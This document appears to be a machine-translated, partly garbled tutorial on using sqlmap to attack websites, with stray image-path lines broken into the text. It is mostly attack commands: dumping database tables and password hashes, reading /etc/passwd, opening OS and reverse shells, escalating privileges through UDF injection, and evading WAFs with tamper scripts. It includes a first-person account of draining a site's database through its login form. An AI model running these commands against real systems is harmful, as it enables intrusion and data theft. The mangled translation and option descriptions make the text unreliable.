Sqlmap How to use

Source: Internet
Author: User
Tags auth http authentication http cookie parse error
1. Basic usage:
./sqlmap.py -u "Inject address" -v 1 --dbs // List the database
./sqlmap.py -u "Inject address" -v 1 –current-db // current database
./sqlmap.py -u "Inject address" -v 1 –users // Column database users
./sqlmap.py -u "inject address" -v 1 –current-user // current user
./sqlmap.py -u "Injection address" -v 1 -tables -D "Database" // List the table names of the database
./sqlmap.py -u "Injection address" -v 1 -columns -T "Table name" -D "Database" // Get column name of table
./sqlmap.py -u "Injection address" -v 1 -dump -C "Field, field" -T "Table name" -D "Database" // Get data in the table, including columnsThe database has been dragged. SQLMAP is very user-friendly. It stores the acquired data in sqlmap / output /
2.sqlmap post injection
When we use Sqlmap for post injection,
It is often the case that a missed request results in an injection failure.
Share a little trick here, that is, use burpsuite to use sqlmap,
Post injection testing in this way will be more accurate and easy to operate.
1. The browser opens the target address http: // www.2cto.com/Login.asp
2. Configure Burp proxy ( to intercept requests
3. Click the submit button of the login form
4. As shown below, at this time Burp will intercept our login POST request
5. Copy this post request as txt, I named it search-test.txt and put it in the sqlmap directory
6. Run sqlmap and use the following command:
./sqlmap.py -r search-test.txt -p tfUPass
The parameter -r is to make sqlmap load our post request rsearch-test.txt,
And -p everyone should be familiar with specifying the parameters for injection.
3, sqlmap cookies injection
sqlmap.py -u “” –cookies “id = 1 ″ –dbs –level 2
2. By default, SQLMAP only supports injection test of GET / POST parameters, but when using the –level parameter and the value is greater than or equal to 2, the cookie parameters are also checked. When> = 3, User-agent and Referer, then this is very simple, we directly add -level 2 on top of the original
Use sqlmap cookies injection to breakthrough user login and continue injection
First get the user's login cookie,
Add a link cookies property to favorites:
Take your own name
javascript: alert (document.cookie), when you need to get the current cookie,
Click this link directly, and then copy the pop-up dialog
The cookie value is set.
sqlmap.py -u http: //x.x.x.x/Down.aspx? tid = 2 -p tid –dbms mssql –cookie = ”info = username = test”
-p refers to the specified parameter injection
4.sqlmap encountered url rewrite injection
* Wherever there is an injection
./sqlmap.py -u "http://www.cunlide.com/id1/1*/id2/2"
5.sqlmap encoding around waf injection
./sqlmap.py -u -v 3 –dbms “MySQL” –technique U -p id –batch –tamper “space2morehash.py”
There are many space2morehash.py encoding scripts loaded in the tamper directory of sqlmap.
Other foundations:
sqlmap -u “http: // url / news? id = 1” –level = 3 –smart –dbms “Mysql” –current-user #Get the current user name
sqlmap -u “http://www.xxoo.com/news?id=1” –level = 3 –smart –dbms “Mysql” –current-db #Get the current database name
sqlmap -u “http://www.xxoo.com/news?id=1” –level = 3 –smart –dbms “Mysql” –tables -D “db_name” #List name
sqlmap -u “http: // url / news? id = 1” –level = 3 –smart –dbms “Mysql” –columns -T “tablename” users-D “db_name” -v 0 #Column field
sqlmap -u “http: // url / news? id = 1” –level = 3 –smart –dbms “Mysql” –dump -C “column_name” -T “table_name” -D “db_name” -v 0 #Get field content
******************Access to information******************
sqlmap -u “–smart –dbms“ Mysql ”–users #Column database user sqlmap -u“ –smart –dbms “Mysql” –dbs # column database sqlmap -u “–smart –dbms“ Mysql ”–passwords #Database user password sqlmap-u "--smart -dbms" Mysql "-passwords-U root -v 0 #List the specified user database passwords sqlmap -u" --smart -dbms "Mysql" -dump-all -v 0 #List all databases Table
sqlmap -u “–smart –dbms“ Mysql ”–privileges #View permissionssqlmap -u“ –smart –dbms “Mysql” –privileges -U root #View specified user permissions sqlmap -u “–smart –dbms“ Mysql ”–is -dba -v 1 #Whether it is a database administrator sqlmap -u "–smart -dbms" Mysql "-roles #Enumerate database user roles sqlmap -u" --smart -dbms "Mysql" -udf-inject #Import user-defined Functions (get system permissions!)
sqlmap -u "–smart -dbms" Mysql "-dump-all -exclude-sysdbs -v 0 #List all tables in the current library
sqlmap -u “–smart –dbms“ Mysql ”–union-check # Whether to support union injection sqlmap -u“ –smart –dbms “Mysql” –union-cols #union Query table records sqlmap -u “–smart –dbms“ Mysql ”--Union-test #unionstatement test
sqlmap -u “–smart –dbms“ Mysql ”–union-use –banner #injection using union sqlmap -u“ –smart –dbms “Mysql” –union-test –union-tech orderby #union cooperate with order by
sqlmap -u “–smart –dbms“ Mysql ”–method“ POST ”— data“ id = 1 & cat = 2 ″ #post injection sqlmap -u “–smart –dbms“ Mysql ”–cookie“ COOKIE_VALUE ”#cookie injection
sqlmap -u "–smart -dbms" Mysql "-b #Get banner information
sqlmap -u “http: // url / news? id = 1” –level = 3 –smart-v 1 -f #fingerprint identification database type
sqlmap -u “http: // url / news? id = 1” –level = 3 –smart–proxy ”” #Proxy injection
sqlmap -u "http: // url / news? id = 1" –string "STRING_ON_TRUE_PAGE" #Specify keywords
sqlmap -u "–smart -dbms" Mysql "-sql-shell #execute the specified sql command
sqlmap -u “–smart –dbms“ Mysql ”–file / etc / passwd sqlmap -u“ –smart –dbms “Mysql”–os-cmd = whoami #Execute the system command sqlmap -u “–smart –dbms“ Mysql ”– os-shell #system interactive shell sqlmap -u “–smart –dbms“ Mysql ”–os-pwn # rebound shell sqlmap -u“ –smart –dbms “Mysql” –reg-read # read win system registry sqlmap -u “–Smart –dbms“ Mysql ”–dbs-o“ sqlmap.log ”#Save progress sqlmap -u“ –smart –dbms “Mysql” –dbs -o “sqlmap.log” –resume #Restore saved progress
Different injection methods and different types, let's simple classification:
1.get type: sqlmap -u “http://xxx.xx.xxx/xx.xxx?xx=xxx”
2.post type: sqlmap -u “http://xxx.xx.xxx/xx.xxx” –data = ”xxxx = xxxx & xxxx = xxx”
3. Cookie class injection: sqlmap -u “http://xxx.xx.xxx/xx.xxx?xx=xxx” –cookie = ”xxx = xxx & xxx = xxx” –level = 2
OK, let ’s follow upNeed a database: -dbs
To get the database name xxx, you need a table: -D xxx –tables
Get table name xxxx, need segment: -D xxx -T xxxx -columns
Get admin, password in the segment, the required values: -D xxx -T xxxx -C “admin, password” –dump
So let's understand what -D -T -C does, of course, knowing its name and specifying to use it.
What does --dbs --tables --columns do? Of course, you do n’t know the name, so list it.
--Dump That is literally, similar to the behavior of exporting data
 In fact, the injection has the above commands, which are adequate, but you still need to bypass waf -tamper = ”"
The injection was identified as a tool and disconnected --user-agent = ”"
No matter how many powerful functions are accumulated slowly, don't think about eating fat
Well, running the database is so simple, so here is a slightly dry example:
http://www.xxx.com/login.asp has post injection. I want to post it, but I don't want to go out and copy the post data. It is very troublesome. I want to let sqlmap run post injection automatically.
sqlmap -u “http://www.xxx.com/login.asp” –formsVery good, the above command successfully ran post injection for me, and found the injection point of the post jjj = 123
sqlmap -u “http://www.xxx.com/login.asp” –forms -p jjj –dbs
So I used the above command to look at the database
sqlmap -u "http: //
www.xxx.com/login.asp ”–forms -p jjj –is-dba
By the way, see if the current user is dba
sqlmap -u “http://www.xxx.com/login.asp” –forms -p jjj -a
What can I get with the above command -a: go and see for yourself.
 To help you filter, those commands under -a are used to look at users, look at hosts, and look at permissions.
 Later, I found that the permissions are still quite high. At the same time, I ran out the database name kkk
sqlmap -u “http://www.xxx.com/login.asp” –forms -p jjj -D kkk –tables
At the same time, I found the path to the website, and then I found the osmap -ox-xx series of sqlmap commands, which can execute system commands. I also found the xpcmdshell -os-shell
And a lot of superb file manipulation commands --file-xx. These commands can be used when they are needed, which will bring you unexpected surprises.
 At the same time, I found that the tables did n’t have what I wanted, and I could n’t find the right content. What to do, my heart wasoverwhelming, I decided to run out all the database content and find it myself, so I did:
sqlmap -u “http://www.xxx.com/login.asp” –forms -p jjj -D kkk –dump-all
Then the nimble sqlmap started to run, and then my egg broke. Nima, sqlmap will ask you if you want to crack the password once, whether this, or that, and my little friends I want to wipe your brother-in-law, I ’m doing my best, I saw a command again—batch can automatically select the default option of sqlmap
 So, I can play with my children and never have to look at sqlmap to drag the library.
In summary, the help documentation is still very important. If you look at it, there will always be some gains:
 In order to prevent you from seeing vomiting in English, the summary is as follows:
Target: Literally, target, then it is the target
Request: literally, request is the definition of the request content, such as post data, http headers, cookie injection, http header pollution, etc
Optimization: Literally, tuning performance, etc.
Injection: Literally, the settings for injection are basically here, such as specifying the injection point, db, the system, etc.
Basically, it is used to confirm the injection range and find the injection point area. These
Basically used to determine the injection method and attack method
Basically used in fingerprint recognition, rarely used
Enumeration information, mainly used in injection, is very important and very common
Brute force:
Used for blasting, in fact, it is mainly used to enumerate tables columns
User-defined function injection:
At present, only the UDF is used to raise the power, and to specify some of the sqlmap scripts that you define, for high-end use, for guidance
File system access
Mainlyfile reading, file writing
Operating system access
It is mainly used for system operations, such as os-shell and subsequent connection metasploit to implement penetration attacks.
windows registry access
Basically the registry operation
Literally, comprehensive content, some special function implementations, I found these very useful parameters in the crawl batch here
Visual inspection of high-end applications, not yet used, ask God for advice
 As summarized above, probably the scarlet letter is a commonly used command, and the rest of the less commonly used ones are also very good. In special cases, the content is applicable.
There are a lot of words, and novice friends who want to see it will have some gains if they look carefully. If the novices have any other wonderful tricks, they also hope to share 1,2 and progress together! !!
SQLMAP Chinese description
-D Connect directly to the database
   -UURL-URL = URL target URL
    -L use Burp, WebScarab proxy log parsing target saved in specified text file
   -M BULKFILE scan multiple targets to enlist-R REQUESTFILE loads HTTP requests from a file
   -G read Google URL, legendary batch detection
   -C load options from config file configfile
   These options can be used to specify how to connect to the target URL.
    --data = DATA send data string via POST
    --cookie = COOKIE HTTP cookie header
    --cookie-urlencode URL-encoded cookie injection
    --drop-set-cookie ignore response from Set-Cookie header
    --user-agent = AGENT HTTP User-Agent header
    --random-agent Randomly selected HTTP User-Agent header
    --referer = REFERER HTTP Referer header
    --headers = HEADERS HTTP header newline separated
    --auth-type = ATYPE HTTP authentication type (basic, digest, or NTLM)
    --auth-cred = ACRED HTTP authentication credentials (username: password)
    --auth-cert = ACERT ACERT HTTP authentication certificate (key_file, cert_file)
    --proxy = PROXY HTTP proxy connects to the target URL
     --proxy-cred = PCRED HTTP proxyauthentication credentials (username: password)
    --ignore-proxy ignore HTTP proxy
    --delay = DELAY delay between each HTTP request
    --timeout = TIMEOUT timeout waiting for connection (default 30)
    --retries = RETRIES Retry connection timeout (default 3)
    --scope = SCOPE regular expression to filter target to provide proxy logs
    --safe-url = SAFURL URL addresses are often tested during access tests
    --safe-freq = SAFREQ test requirements for agiven secure URL between SAFREQ visits
   These options can be used to optimize the performance of SqlMap.
   -O Turn on all optimization switches
    --predict-output predict output common prediction output
    --keep-alive keep-alive using persistent HTTP (S) connections
    --null-connection Empty connection retrieval page has no actual HTTP response body length
    --threads = THREADS maximum number of concurrent HTTP (S) requests (default is 1)
   These options can be used to specify which parameter tests,
   Provides custom injection load and optional tamper script.
   -P TESTPARAMETER testable parameter (S)
    --dbms = DBMS specified database
    --os = OS specified operating system
    --prefix = PREFIX injection payload prefix string
    --suffix = SUFFIX injection payload suffix string
    --tamper = TAMPER tamper with injected data to use the given script (s)
   These options can be used to specify how pages are parsed and compared
   Use blind SQL injection techniques when responding from HTTP content.
    --level = LEVEL The level of the test to be performed (1-5, default is 1)
    --risk = RISK test execution risk (0-3, default is 1)
    --string = STRING string matching string is a valid page at query time
    --regexp = REGEXP regular expression matching is valid for page queries
    --text-only Plain text comparison based on text content only
   These options can be used to tune specific SQL injection tests
    --technique = TECH SQL injection technology test (default Boist)
    --time-sec = TIMESEC seconds delay in DBMS response (default is 5)
    --union-cols = UCOLS column range test
    --union-char = UCHAR number of columns with brute force cracking
   -f, --fingerprint fingerprint for extensive DBMS version fingerprinting
   These options can be used to listbackend databases
   Information, structure and data contained in the management system
   table. In addition, you can run your own SQL statements.
   -b, --banner database banner
   --current-user database current user
   --current-db retrieve database current database
   --is-dba detect if the current DBMS user is a DBA
     --users enumerate users and DBMS users
    --passwords password enumerate DBMS user password hash
    --privileges Privileges enumerate the permissions of the database user
    --roles role enumerate the roles of database users
    --dbs enumerated DBMS database
    --tables DBMS database tables
    --columns DBMS database table columns
    --schema enumerate database schema
